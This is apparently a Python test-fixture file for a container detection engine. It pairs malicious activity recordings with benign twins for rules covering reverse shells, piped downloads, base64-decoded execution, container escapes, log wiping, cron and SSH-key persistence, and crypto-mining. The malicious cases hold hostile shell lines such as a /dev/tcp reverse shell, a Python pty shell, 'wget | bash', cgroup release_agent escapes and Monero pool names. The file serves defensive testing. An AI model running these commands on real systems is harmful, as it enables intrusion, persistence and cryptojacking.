"""Runs in the sandbox, written by hand: for each rule what it is meant for, and an honest twin."""

from dataclasses import dataclass

from pratique.model import ExecFlag, FlowEvent, FlowVerdict, Protocol, Recording, Service
from tests.unit.detections.events import (
    bait,
    conversation,
    execution,
    flow,
    lookup,
    packet_socket,
    payload,
    privilege,
    question,
    recording,
    write,
)

UPPER = ExecFlag.UPPER
LOGIN = b'{"id":1,"method":"login","params":{"agent":"XMRig/6.21"}}\n'


@dataclass(frozen=True)
class Case:
    rule: str
    bad: Recording
    honest: Recording


def _shell(bad: str, honest: str, rule: str) -> Case:
    return Case(rule, recording(execution("/bin/sh", "-c", bad)), recording(execution("/bin/sh", "-c", honest)))


def _learnt(address: str, port: int, *, at: float = 100.0, pid: int = 42) -> FlowEvent:
    return flow(address, port, verdict=FlowVerdict.LEARNT, at=at, pid=pid)


TUNNEL = [lookup(f"{n:032x}.evil.example", at=100.0 + n / 10) for n in range(12)]
CLOUD = [lookup(f"{n:032x}.evil{n}.example", at=100.0 + n / 10) for n in range(12)]

CASES: list[Case] = [
    Case("exec.drift",
         recording(write("/tmp/x", command="wget", pid=5, at=99.0), execution("/tmp/x", flags=UPPER)),
         recording(execution("/usr/bin/ld", pid=5, at=98.0), write("/tmp/x", command="ld", pid=5, at=99.0),
                   execution("/tmp/x", flags=UPPER))),
    Case("exec.drift", recording(execution("/tmp/ld", flags=UPPER, pid=5, at=98.0), write("/tmp/x", command="ld", pid=5,
                                 at=99.0), execution("/tmp/x", flags=UPPER)), recording(execution("/usr/bin/x"))),
    Case("exec.modified", recording(execution("/bin/ls", flags=UPPER | ExecFlag.LOWER | ExecFlag.MODIFIED)),
         recording(execution("/usr/bin/dpkg", pid=5, at=98.0), write("/bin/ls.dpkg-new", pid=5, at=99.0),
                   execution("/bin/ls", flags=UPPER | ExecFlag.LOWER | ExecFlag.MODIFIED))),
    Case("exec.library", recording(execution(file="/tmp/x.so", flags=UPPER | ExecFlag.LIBRARY)),
         recording(execution("/usr/bin/x86_64-linux-gnu-ld.bfd", pid=5, at=98.0), write("/tmp/x.so", pid=5, at=99.0),
                   execution(file="/tmp/x.so", flags=UPPER | ExecFlag.LIBRARY))),
    Case("exec.fileless", recording(execution("memfd:x", flags=ExecFlag.MEMFD)), recording(execution("/bin/x"))),
    Case("exec.volume", recording(execution("/dev/shm/x", flags=ExecFlag.NOT_OVERLAY)), recording(execution("/bin/x"))),
    Case("exec.miner", recording(execution("/opt/x", "--donate-level", "1")), recording(execution("/opt/x", "1"))),
    _shell("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "echo > /dev/tcp/db/5432", "exec.reverse-shell"),
    Case("exec.reverse-shell", recording(_learnt("10.0.0.9", 4444, at=99.0), execution("/bin/sh", "-i")),
         recording(_learnt("10.0.0.9", 5432, at=99.0), execution("/bin/sh", "/usr/bin/start"))),
    Case("exec.reverse-shell", recording(_learnt("10.0.0.9", 4444, at=99.0, pid=7), execution("sh", parent=7)),
         recording(_learnt("10.0.0.9", 4444, at=99.0, pid=7), execution("sh", parent=8))),
    Case("exec.reverse-shell",
         recording(execution("/usr/bin/python3", "-c", "import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);"
                             "pty.spawn('/bin/sh')")),
         recording(execution("/usr/bin/python3", "-c", "import socket; print(socket.gethostname())"))),
    _shell("wget -qO- http://h/d.sh | bash", "curl -s http://h/data | jq .", "exec.piped-download"),
    Case("exec.piped-download", recording(execution("/usr/bin/curl", "h", pid=6, parent=5), execution("sh", parent=5)),
         recording(execution("/usr/bin/curl", "h/x", pid=6, parent=5), execution("sh", "/run.sh", parent=5))),
    Case("exec.piped-download", recording(execution("sh", parent=5), execution("wget", "h", pid=6, parent=5, at=100.1)),
         recording(execution("sh", parent=5), execution("wget", "h", pid=6, parent=5, at=110.0))),
    Case("exec.piped-download",
         recording(write("/tmp/i.sh", command="curl", at=99.0), execution("sh", "/tmp/i.sh")),
         recording(write("/tmp/i.sh", command="envsubst", at=99.0), execution("sh", "/tmp/i.sh"))),
    Case("exec.piped-download",
         recording(write("/tmp/core.png", command="nc", at=99.0), execution("sh", "/tmp/core.png"),
                   conversation(Service.HTTP, port=80, request="GET /img/core.png?x=1 HTTP/1.0", content=b"GET ")),
         recording(write("/tmp/core.png", command="nc", at=99.0), execution("sh", "/tmp/core.png"),
                   conversation(Service.HTTP, port=80, request="GET /other.png HTTP/1.0", content=b"GET "))),
    _shell("echo ZWNobyBoaQo= | base64 -d | sh", "echo $KEY | base64 -d > /etc/key", "exec.decoded"),
    _shell('eval "$(echo ZQo= | base64 --decode)"', 'eval "$(ssh-agent -s)"', "exec.decoded"),
    _shell("cat /x.gz | gunzip | base64 -d | bash -s", "gunzip -c /dump.sql.gz | psql shop", "exec.decoded"),
    Case("exec.decoded", recording(execution("base64", "-d", pid=6, parent=5), execution("sh", parent=5)),
         recording(execution("base64", "-d", pid=6, parent=5), execution("sh", parent=4))),
    Case("exec.decoded",
         recording(execution("python3", "-c", "exec(__import__('base64').b64decode('cHJpbnQoMSk='))")),
         recording(execution("python3", "-c", "import base64; print(base64.b64encode(b'x'))"))),
    Case("exec.escape", recording(execution("/usr/bin/nsenter", "-t", "1", "-m", "sh")),
         recording(execution("/usr/bin/nsenter", "-t", "812", "-n", "ip", "a"))),
    Case("exec.escape", recording(execution("/usr/sbin/chroot", "/host", "sh")),
         recording(execution("/usr/sbin/chroot", "--userspec=www", "/srv/jail", "httpd"))),
    _shell("echo /cmd > /tmp/cg/release_agent", "cat /sys/fs/cgroup/memory.max > /tmp/limit", "exec.escape"),
    Case("exec.covers-tracks", recording(execution("/bin/rm", "-f", "/root/.bash_history")),
         recording(execution("/bin/rm", "-rf", "/var/log/apt"))),
    _shell("unset HISTFILE; HISTSIZE=0; id", "HISTCONTROL=ignoredups; id", "exec.covers-tracks"),
    _shell("cat /dev/null > /var/log/wtmp", "echo up > /var/log/app.log", "exec.covers-tracks"),
    Case("file.cron", recording(write("/etc/cron.d/0hourly")),
         recording(execution("/usr/sbin/cron", at=99.0), write("/etc/cron.d/backup"))),
    Case("file.cron", recording(write("/mnt/var/spool/cron/crontabs/root")),
         recording(execution("/bin/busybox", "crond", "-f"), write("/var/spool/cron/crontabs/root"))),
    Case("file.cron", recording(write("/etc/cron.daily/logs")),
         recording(execution("/usr/bin/dpkg", pid=5, at=99.0), write("/etc/cron.daily/logrotate", pid=5))),
    Case("file.ssh-key", recording(write("/root/.ssh/authorized_keys")), recording(write("/root/.ssh/known_hosts"))),
    Case("file.preload", recording(write("/etc/ld.so.preload")), recording(write("/etc/ld.so.cache"))),
    Case("bait.sent", recording(bait(at=99.0), conversation(content=b"POST /"), execution("/bin/sh")),
         recording(bait(at=101.0), conversation(content=b"POST /"))),
    Case("bait.sent", recording(bait("ssh-key", at=99.0), conversation(content=b"x", port=80)),
         recording(bait("ssh-key", at=99.0), conversation(content=b"SSH-2.0", port=22))),
    Case("bait.sent",
         recording(bait(at=98.0), lookup("paste.example", "198.18.0.9", at=99.0),
                   conversation(address="198.18.0.9", content=b"\x16\x03")),
         recording(bait(at=98.0), lookup("s3.eu-central-1.amazonaws.com", "198.18.0.9", at=99.0),
                   conversation(address="198.18.0.9", content=b"\x16\x03"))),
    Case("bait.engine-socket", recording(bait("engine-socket", "/var/run/docker.sock")), recording(bait())),
    Case("kernel.escape", recording(privilege("mount", "cgroup")), recording(privilege("ptrace"))),
    Case("kernel.escape", recording(privilege("unshare", "mount,user")), recording(privilege("unshare", "user"))),
    Case("kernel.escape", recording(privilege("setns")), recording(privilege("chroot", "/var/empty"))),
    Case("kernel.escape", recording(write("/proc/sys/kernel/core_pattern")), recording(write("/proc/self/oom_adj"))),
    Case("kernel.escape", recording(privilege("open", "/sys/fs/cgroup/x/release_agent")),
         recording(privilege("open", "/proc/kcore"))),
    Case("net.packet-socket", recording(packet_socket()), recording(_learnt("198.18.0.7", 443))),
    Case("net.scan", recording(*(flow(f"10.0.0.{n}", 2375, verdict=FlowVerdict.LEARNT) for n in range(1, 30))),
         recording(*(lookup(f"h{n}.example", f"10.0.0.{n}") for n in range(1, 30)),
                   *(flow(f"10.0.0.{n}", 443, verdict=FlowVerdict.LEARNT) for n in range(1, 30)))),
    Case("net.scan", recording(*(flow(f"{n}.7.8.9", 22, verdict=FlowVerdict.LEARNT) for n in range(20, 50))),
         recording(*(flow(f"{n}.7.8.9", 22, verdict=FlowVerdict.LEARNT) for n in range(20, 30)))),
    Case("net.miner-protocol", recording(payload(LOGIN)), recording(payload(b'{"method":"status"}'))),
    Case("net.miner-protocol", recording(conversation(Service.STRATUM, content=LOGIN)),
         recording(conversation(Service.HTTP, content=b"GET / HTTP/1.1\r\n"))),
    Case("net.miner-pool", recording(lookup("gulf.moneroocean.stream")), recording(lookup("ocean.example"))),
    Case("net.miner-pool", recording(conversation(Service.TLS, name="xmr.nanopool.org", content=b"\x16")),
         recording(conversation(Service.TLS, name="api.example.org", content=b"\x16"))),
    Case("net.miner-pool", recording(payload(question("pool.supportxmr.com"), protocol=Protocol.UDP, port=53)),
         recording(payload(question("db"), protocol=Protocol.UDP, port=53))),
    Case("net.dns-tunnel", recording(*TUNNEL), recording(*CLOUD)),
    Case("run.mining", recording(_learnt("198.18.0.9", 3333), cpu_s=19.0),
         recording(_learnt("198.18.0.9", 3333), cpu_s=4.0)),
    Case("run.mining", recording(_learnt("198.18.0.9", 3333), cpu_s=6.0, waited_s=13.0),
         recording(_learnt("198.18.0.9", 3333), cpu_s=6.0, waited_s=1.0)),
    Case("run.mining", recording(conversation(port=4444, content=b"\x16\x03"), cpu_s=19.0),
         recording(conversation(port=443, content=b"\x16\x03"), cpu_s=19.0)),
]  # fmt: skip
"""What condemns; the honest twins are clean."""

TOLD: list[Case] = [
    Case("exec.built", recording(execution("/usr/bin/ld", pid=5, at=98.0), write("/b/t", pid=5), execution("/b/t",
         flags=UPPER, at=101.0)), recording(execution("/usr/bin/t"))),
    Case("exec.built", recording(execution("/usr/bin/dpkg", pid=5, at=98.0),
                                 execution("/var/lib/dpkg/info/x.postinst", flags=UPPER, parent=5)),
         recording(execution("/usr/bin/dpkg", pid=5, at=98.0), execution("/usr/bin/dpkg-deb", parent=5))),
    Case("exec.touched", recording(execution("/app/r", flags=UPPER | ExecFlag.LOWER)), recording(execution("/app/r"))),
    Case("exec.package-manager", recording(execution("apk", "add", "nmap")), recording(execution("apk", "info"))),
    Case("file.account", recording(write("/etc/passwd")), recording(write("/etc/group"))),
    Case("bait.read", recording(bait()), recording(bait("engine-socket", "/run/docker.sock"))),
    Case("kernel.call", recording(privilege("ptrace", "attach")), recording(privilege("mount", "proc"))),
    Case("net.metadata", recording(conversation(Service.HTTP, address="169.254.169.254", port=80, content=b"GET /")),
         recording(conversation(Service.HTTP, port=80, content=b"GET /"))),
]  # fmt: skip
"""What is told and leaves the verdict alone."""
